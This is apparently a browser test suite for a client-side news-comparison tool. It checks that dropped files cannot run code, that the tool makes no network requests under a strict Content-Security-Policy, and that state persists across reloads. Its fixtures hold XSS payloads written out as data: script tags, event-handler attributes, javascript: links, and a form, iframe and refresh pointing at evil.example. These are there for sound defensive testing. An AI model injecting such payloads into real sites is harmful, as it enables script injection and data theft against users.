// Nothing runs that the reader did not write, nothing leaves the browser, nothing is lost:
// a hostile drop stays text, the strict CSP holds, analysis makes no request, and a reload
// brings back the same drop until the reader presses Clear.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { serve, launch, openPage, waitForReport, dropFiles, shadowText, shot } from './helpers.mjs';

let server;
let browser;
before(async () => { server = await serve(); browser = await launch(); });
after(async () => { await browser?.close(); await server?.close(); });

const ARTICLE = 'The council of Port Ellis met on Tuesday, March 3, 2026, and approved 12 new ferry routes, Mayor Ines Vartan said.';
const HOSTILE = [
  {
    name: 'hostile.html',
    text: `<!doctype html><html><head><title>Ferry vote</title>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<script>alert('script')</script><style>body{background:url(http://evil.example/bg.png)}</style></head>
<body><article><h1>Ferry vote <img src="x" onerror="alert('img')"></h1>
<p>${ARTICLE} <a href="javascript:alert('link')">Read more</a></p>
<svg onload="alert('svg')"><circle r="4"/><script>alert('svg-script')</script></svg>
<p style="width: expression(alert('css')); background: url(javascript:alert('bg'))">Operators said on Wednesday they had not agreed to the schedule.</p>
<iframe src="http://evil.example/frame"></iframe><object data="http://evil.example/o.swf"></object>
<form action="http://evil.example/steal"><input name="q"></form></article></body></html>`,
  },
  { name: 'plain-with-markup.txt', text: `Harbour Wire\n\n<script>alert('text')</script> headline\n\n${ARTICLE} <img src=x onerror=alert('text-img')> <b onmouseover=alert(1)>bold</b>` },
  { name: '<img src=x onerror=alert(1)>.txt', text: `Coast Courier\n\n${ARTICLE}` },
  { name: 'evil.svg', type: 'image/svg+xml', text: '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'file-svg\')"><script>alert(1)</script><text>Port Ellis ferry</text></svg>' },
];

test('a hostile drop stays text: no dialog, no element from the input, no request', async () => {
  const { page, log, context } = await openPage(browser, server.url);
  await waitForReport(page, '#app', 4);
  const requestsBefore = log.requests.length;
  await dropFiles(page, HOSTILE, '#app');
  const r = await waitForReport(page, '#app', HOSTILE.length);
  // Show every panel, every document body and every removed line, so all the text is in the DOM.
  const app = page.locator('#app');
  for (const tab of await app.locator('role=tab').all()) await tab.click();
  await app.locator('role=tab[name=/Documents/]').click();
  for (const s of await app.locator('.px-doc-text > summary').all()) await s.click();
  await page.waitForTimeout(300);
  assert.deepEqual(log.dialogs, [], 'no dialog opened');
  const found = await page.evaluate(() => {
    const root = document.querySelector('#app').shadowRoot;
    const all = [...root.querySelectorAll('*'), ...document.querySelectorAll('body *')];
    return {
      tags: all.filter((e) => ['SCRIPT', 'IMG', 'IFRAME', 'OBJECT', 'EMBED', 'META', 'FORM', 'B'].includes(e.tagName) && !e.closest('head')).map((e) => e.tagName),
      handlers: all.filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).map((e) => e.tagName),
      jsLinks: all.filter((e) => /^\s*javascript:/i.test(e.getAttribute('href') || '')).length,
      svgFromInput: [...root.querySelectorAll('svg text, svg circle')].filter((e) => /Port Ellis ferry/.test(e.textContent) || e.getAttribute('r') === '4').length,
    };
  });
  assert.deepEqual(found.tags.filter((t) => t !== 'FORM'), [], 'no element from the input');
  assert.deepEqual(found.handlers, [], 'no event handler attributes');
  assert.equal(found.jsLinks, 0);
  assert.equal(found.svgFromInput, 0);
  const text = await shadowText(page, '#app');
  assert.ok(text.includes('<img src=x onerror=alert(1)>.txt'), 'the hostile file name is shown as text');
  assert.ok(r.documents[0].body.includes('approved 12 new ferry routes'), 'the hostile page still analyses');
  assert.ok(!r.documents[0].body.includes("alert('script')"), 'scripts never reach the body');
  assert.deepEqual(log.requests.slice(requestsBefore), [], 'no request was made');
  assert.deepEqual(log.errors, []);
  assert.deepEqual(await page.evaluate(() => window.__csp), [], 'no CSP violation');
  await shot(page, 'hostile.png');
  await context.close();
});

test('a file over the size limit is named with its problem and the others still analyse', async () => {
  const { page, log, context } = await openPage(browser, server.url);
  await waitForReport(page, '#app', 4);
  await dropFiles(page, [{ name: 'harbour.txt', text: `Harbour Wire\n\n${ARTICLE}` }, { name: 'archive.bin', zeros: 40 << 20 }], '#app');
  const r = await waitForReport(page, '#app', 2);
  assert.ok(r.documents[0].body.includes('approved 12 new ferry routes'));
  assert.deepEqual(r.documents[1].error_codes, ['too_large']);
  const app = page.locator('#app');
  await app.locator('role=tab[name=/Documents/]').click();
  const text = await shadowText(page, '#app');
  assert.match(text, /archive\.bin[\s\S]*40\.0 MB, over the limit of 32\.0 MB/, 'the file is named with its size and the limit');
  assert.deepEqual(log.errors, []);
  await context.close();
});

test('the page and the embed page run under a strict CSP without violations', async () => {
  for (const p of ['', 'embed.html']) {
    const { page, log, context } = await openPage(browser, server.url + p);
    await page.waitForFunction(() => [...document.querySelectorAll('parallax-compare')].some((e) => e.report));
    const csp = await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content || '');
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval'/);
    assert.doesNotMatch(csp, /unsafe-inline|'unsafe-eval'/);
    const inline = await page.evaluate(() => [...document.scripts].filter((s) => !s.src).length);
    assert.equal(inline, 0, `${p || 'index'}: no inline script`);
    // An inline script injected now must be refused by the policy.
    await page.evaluate(() => { const s = document.createElement('script'); s.textContent = 'window.__ran = true'; document.body.append(s); });
    assert.equal(await page.evaluate(() => window.__ran === true), false, 'inline script blocked');
    const violations = await page.evaluate(() => window.__csp.filter((v) => !v.startsWith('script-src-elem inline') && !/inline/.test(v)));
    assert.deepEqual(violations, []);
    assert.deepEqual(log.errors, []);
    await context.close();
  }
});

test('analysing files after the page has loaded makes zero network requests', async () => {
  const { page, log, context } = await openPage(browser, server.url);
  await waitForReport(page, '#app', 4);
  const n = log.requests.length;
  const files = Array.from({ length: 6 }, (_, i) => ({ name: `story-${i}.txt`, text: `Outlet ${i}\n\n${ARTICLE} ${i} people were hurt.` }));
  await dropFiles(page, files, '#app');
  await waitForReport(page, '#app', 6);
  await page.locator('#app').locator('role=tab[name=/Timeline/]').click();
  await page.locator('#app').locator('role=tab[name=/Entities/]').click();
  await page.waitForTimeout(200);
  assert.deepEqual(log.requests.slice(n), []);
  await context.close();
});

test('the drop and its corrections survive a reload until Clear', async () => {
  const { page, context } = await openPage(browser, server.url);
  await waitForReport(page, '#app', 4);
  await dropFiles(page, [
    { name: 'one.txt', text: `Harbour Wire\n\nFerry routes approved\n\n${ARTICLE}` },
    { name: 'two.txt', text: `Coast Courier\n\nCouncil adds routes\n\n${ARTICLE.replace('12', '14')}` },
  ], '#app');
  const first = await waitForReport(page, '#app', 2);
  await page.locator('#app').locator('role=tab[name=/Documents/]').click();
  const card = page.locator('#app').locator('.px-doc').nth(1);
  await card.locator('summary', { hasText: 'Correct outlet or date' }).click();
  await card.getByLabel('Outlet').fill('Corrected Courier');
  await card.getByRole('button', { name: 'Apply' }).click();
  await page.waitForFunction(() => document.querySelector('#app').report?.documents[1]?.outlet === 'Corrected Courier');
  const corrected = await page.evaluate(() => document.querySelector('#app').report);
  await page.waitForTimeout(300); // the save is asynchronous
  await page.reload();
  const restored = await waitForReport(page, '#app', 2);
  assert.deepEqual(restored.documents.map((d) => d.file), first.documents.map((d) => d.file));
  assert.equal(restored.documents[1].outlet, 'Corrected Courier');
  assert.deepEqual(restored.claims, corrected.claims, 'the same report after the reload');
  assert.match(await shadowText(page, '#app'), /Restored your last drop/);
  await page.locator('#app').getByRole('button', { name: 'Clear' }).click();
  await page.waitForTimeout(300);
  await page.reload();
  await waitForReport(page, '#app', 4); // the demo again
  await context.close();
});
